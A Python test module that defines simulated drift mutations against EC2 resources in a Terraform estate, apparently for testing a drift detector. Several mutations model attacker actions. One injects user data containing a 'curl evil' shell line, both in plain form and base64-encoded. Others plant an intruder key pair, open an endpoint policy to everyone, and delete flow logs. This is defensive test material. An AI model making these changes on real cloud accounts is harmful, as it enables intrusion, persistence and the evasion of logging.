"""What people and attackers do to the instances, volumes and addresses of ``ec2.tf`` behind Git's back."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any

from tests.providers.aws.estate.ec2_find import Clients, group, instances, named, rich, subnet, tagged, volume
from tests.providers.aws.estate.mutation import Mutation


def _profile_removed(clients: Clients) -> None:
    client = clients("ec2")
    associations = client.describe_iam_instance_profile_associations()["IamInstanceProfileAssociations"]
    client.disassociate_iam_instance_profile(AssociationId=associations[0]["AssociationId"])


def _profile_added(clients: Clients) -> None:
    client = clients("ec2")
    instance = next(one["InstanceId"] for one in instances(client) if one["InstanceType"] == "m5.large")
    client.associate_iam_instance_profile(InstanceId=instance, IamInstanceProfile={"Name": "ec2-instance"})


def _imds_v1(clients: Clients) -> None:
    client = clients("ec2")
    client.modify_instance_metadata_options(
        InstanceId=rich(client), HttpTokens="optional", HttpPutResponseHopLimit=2
    )


def _attribute(**said: Any) -> Callable[[Clients], None]:
    def apply(clients: Clients) -> None:
        client = clients("ec2")
        client.modify_instance_attribute(InstanceId=rich(client), **said)

    return apply


def _groups(clients: Clients) -> None:
    client = clients("ec2")
    web = group(client, "ec2-web")["GroupId"]
    client.modify_instance_attribute(InstanceId=rich(client), Groups=[web])


def _new_user_data(clients: Clients) -> None:
    client = clients("ec2")
    data = base64.b64encode(b"#!/bin/sh\ncurl evil\n")
    client.modify_instance_attribute(InstanceId=rich(client), UserData={"Value": data})


def _terminated(clients: Clients) -> None:
    client = clients("ec2")
    instance = next(one["InstanceId"] for one in instances(client) if one["InstanceType"] == "m5.large")
    client.terminate_instances(InstanceIds=[instance])


def _launched(clients: Clients) -> None:
    client = clients("ec2")
    chosen = subnet(client, "10.0.1.0/24")
    client.run_instances(
        ImageId="ami-12c6146b", InstanceType="c5.large", MinCount=1, MaxCount=1, SubnetId=chosen
    )


def _bigger(clients: Clients) -> None:
    client = clients("ec2")
    client.modify_volume(VolumeId=volume(client, 8), Size=9)


def _new_version(**changed: Any) -> Callable[[Clients], None]:
    def apply(clients: Clients) -> None:
        client = clients("ec2")
        latest = client.describe_launch_template_versions(LaunchTemplateName="ec2-rich", Versions=["$Latest"])
        data = latest["LaunchTemplateVersions"][0]["LaunchTemplateData"]
        client.create_launch_template_version(
            LaunchTemplateName="ec2-rich",
            VersionDescription="web servers",
            LaunchTemplateData={**data, **changed},
        )

    return apply


def _default_version(clients: Clients) -> None:
    clients("ec2").modify_launch_template(LaunchTemplateName="ec2-rich", DefaultVersion="2")


def _endpoint(client: Any, service: str) -> str:
    return str(
        next(
            one["VpcEndpointId"]
            for one in client.describe_vpc_endpoints()["VpcEndpoints"]
            if one["ServiceName"].endswith(service)
        )
    )


def _open_endpoint(clients: Clients) -> None:
    client = clients("ec2")
    statement = {"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}
    client.modify_vpc_endpoint(
        VpcEndpointId=_endpoint(client, ".s3"),
        PolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": [statement]}),
    )


def _new_key(clients: Clients) -> None:
    clients("ec2").create_key_pair(KeyName="ec2-intruder")


def _replaced_key(clients: Clients) -> None:
    client = clients("ec2")
    client.delete_key_pair(KeyName="ec2-main")
    material = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE8sXx2VFX9b1dWZl0RzGbHbBqW7mJ0mVnTq1Wm3pYyS x"
    tags = [{"ResourceType": "key-pair", "Tags": [{"Key": "Owner", "Value": "ops"}]}]
    client.import_key_pair(KeyName="ec2-main", PublicKeyMaterial=material, TagSpecifications=tags)


def _flow_log(client: Any) -> str:
    return str(client.describe_flow_logs()["FlowLogs"][0]["FlowLogId"])


def _no_flow_log(clients: Clients) -> None:
    client = clients("ec2")
    client.delete_flow_logs(FlowLogIds=[_flow_log(client)])


def _nat(client: Any) -> str:
    return str(named(client.describe_nat_gateways()["NatGateways"], "ec2-main")["NatGatewayId"])


def _no_private_nat(clients: Clients) -> None:
    client = clients("ec2")
    gateways = client.describe_nat_gateways()["NatGateways"]
    client.delete_nat_gateway(
        NatGatewayId=next(one["NatGatewayId"] for one in gateways if one.get("ConnectivityType") == "private")
    )


def _address(client: Any) -> str:
    return str(named(client.describe_addresses()["Addresses"], "ec2-nat")["AllocationId"])


def _disassociated_address(clients: Clients) -> None:
    client = clients("ec2")
    address = next(one for one in client.describe_addresses()["Addresses"] if one.get("InstanceId"))
    client.disassociate_address(AssociationId=address["AssociationId"])


_INSTANCE = "AWS::EC2::Instance"

MUTATIONS = [
    Mutation("profile taken off", _profile_removed, _INSTANCE, "i-", paths=("/IamInstanceProfile",)),
    Mutation("profile attached", _profile_added, _INSTANCE, "i-", paths=("/IamInstanceProfile",)),
    Mutation("IMDSv1 again", _imds_v1, _INSTANCE, "i-", paths=("/MetadataOptions/HttpTokens",)),
    Mutation(
        "protected from termination",
        _attribute(DisableApiTermination={"Value": True}),
        _INSTANCE,
        "i-",
        paths=("/DisableApiTermination",),
    ),
    Mutation(
        "forwards packets",
        _attribute(SourceDestCheck={"Value": False}),
        _INSTANCE,
        "i-",
        paths=("/SourceDestCheck",),
    ),
    Mutation("a group taken off", _groups, _INSTANCE, "i-", paths=("/SecurityGroupIds",)),
    Mutation("other user data", _new_user_data, _INSTANCE, "i-", paths=("/UserData",)),
    Mutation("tag on an instance", tagged(rich), _INSTANCE, "i-", paths=("/Tags/Intruder",)),
    Mutation("instance launched", _launched, _INSTANCE, "i-", "unmanaged"),
    Mutation("instance terminated", _terminated, _INSTANCE, "i-", "missing"),
    Mutation("bigger volume", _bigger, "AWS::EC2::Volume", "vol-", paths=("/Size",)),
    Mutation(
        "tag on a volume",
        tagged(lambda c: volume(c, 40)),
        "AWS::EC2::Volume",
        "vol-",
        paths=("/Tags/Intruder",),
    ),
    Mutation("tag on an address", tagged(_address), "AWS::EC2::EIP", "eipalloc-", paths=("/Tags/Intruder",)),
    Mutation(
        "address taken off",
        _disassociated_address,
        "AWS::EC2::EIP",
        "eipalloc-",
        paths=("/InstanceId", "/NetworkInterfaceId"),
    ),
    Mutation("tag on a NAT gateway", tagged(_nat), "AWS::EC2::NatGateway", "nat-", paths=("/Tags/Intruder",)),
    Mutation("NAT gateway deleted", _no_private_nat, "AWS::EC2::NatGateway", "nat-", "missing"),
    Mutation("new key pair", _new_key, "AWS::EC2::KeyPair", "ec2-intruder", "unmanaged"),
    Mutation(
        "key pair replaced",
        _replaced_key,
        "AWS::EC2::KeyPair",
        "ec2-main",
        paths=("/PublicKeyMaterial", "/Tags/ManagedBy"),
    ),
    Mutation(
        "endpoint policy opened",
        _open_endpoint,
        "AWS::EC2::VPCEndpoint",
        "vpce-",
        paths=("/PolicyDocument/Statement/(no Sid)",),
    ),
    Mutation(
        "tag on an endpoint",
        tagged(lambda c: _endpoint(c, ".ssm")),
        "AWS::EC2::VPCEndpoint",
        "vpce-",
        paths=("/Tags/Intruder",),
    ),
    Mutation("tag on a flow log", tagged(_flow_log), "AWS::EC2::FlowLog", "fl-", paths=("/Tags/Intruder",)),
    Mutation("flow log deleted", _no_flow_log, "AWS::EC2::FlowLog", "fl-", "missing"),
    Mutation(
        "template with another image",
        _new_version(ImageId="ami-1e749f67"),
        "AWS::EC2::LaunchTemplate",
        "ec2-rich",
        paths=("/LaunchTemplateData/ImageId",),
    ),
    Mutation(
        "template with other user data",
        _new_version(UserData="IyEvYmluL3NoCmN1cmwgZXZpbAo="),
        "AWS::EC2::LaunchTemplate",
        "ec2-rich",
        paths=("/LaunchTemplateData/UserData",),
    ),
    Mutation(
        "another default version",
        _default_version,
        "AWS::EC2::LaunchTemplate",
        "ec2-rich",
        paths=("/DefaultVersion",),
    ),
]
